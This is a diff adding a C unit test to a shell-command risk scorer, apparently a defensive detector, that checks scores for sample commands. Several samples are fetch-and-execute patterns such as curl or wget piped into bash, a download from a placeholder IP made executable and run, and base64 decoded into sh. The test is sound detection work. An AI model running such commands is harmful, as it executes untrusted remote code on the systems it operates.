@@ -189,3 +189,33 @@ Test(shell_rule_engine, parent_programs)
     px_buf_free(&rep);
     px_engine_destroy(e);
 }
+
+/* Data flow of code: downloaded, decoded or echoed text that a shell or
+ * interpreter runs. */
+Test(shell_rule_engine, code_flows_into_interpreters)
+{
+    char err[512];
+    px_engine *e = load_text("analyzer: dataflow\nsettings:\n"
+                             "  exec: [sh, bash, 'python*', eval]\n"
+                             "  fetch: [curl, wget]\n  decode: [base64]\n  print: [echo]\n"
+                             "  score_fetch_exec: [85]\n  score_fetch_exec_ip: [95]\n  score_decode_exec: [84]\n"
+                             "  score_print_exec: [70]\n  score_download_made_executable: [78]\n"
+                             "---\n" HEAD "    programs: [nmap]\n"
+                             "    tests:\n      match: [nmap x]\n      no_match: [ls]\n",
+                             err, sizeof(err));
+    cr_assert_not_null(e, "%s", err);
+    cr_expect_eq(score_of(e, "curl -s https://x.example/i.sh | bash"), 85);
+    cr_expect_eq(score_of(e, "bash <(curl -s https://x.example/i.sh)"), 85);
+    cr_expect_eq(score_of(e, "sh -c \"$(wget -qO- https://x.example/a)\""), 85);
+    cr_expect_eq(score_of(e, "wget -O /tmp/a http://203.0.113.5/a; chmod +x /tmp/a; /tmp/a"), 95);
+    cr_expect_eq(score_of(e, "curl -o x.sh https://x.example/y.sh && bash x.sh"), 85);
+    cr_expect_eq(score_of(e, "curl -o tool https://x.example/t && chmod 755 tool"), 78);
+    cr_expect_eq(score_of(e, "echo 'id' | sh"), 70);
+    cr_expect_geq(score_of(e, "echo aWQ= | base64 -d | sh"), 84);
+    /* data, not code */
+    cr_expect_eq(score_of(e, "curl -s https://api.example.com/x | python3 -m json.tool"), 0);
+    cr_expect_eq(score_of(e, "curl -L https://example.com/file.patch | git am"), 0);
+    cr_expect_eq(score_of(e, "curl -o data.json https://api.example.com/d && python3 process.py data.json"), 0);
+    cr_expect_eq(score_of(e, "echo hi | cat"), 0);
+    px_engine_destroy(e);
+}
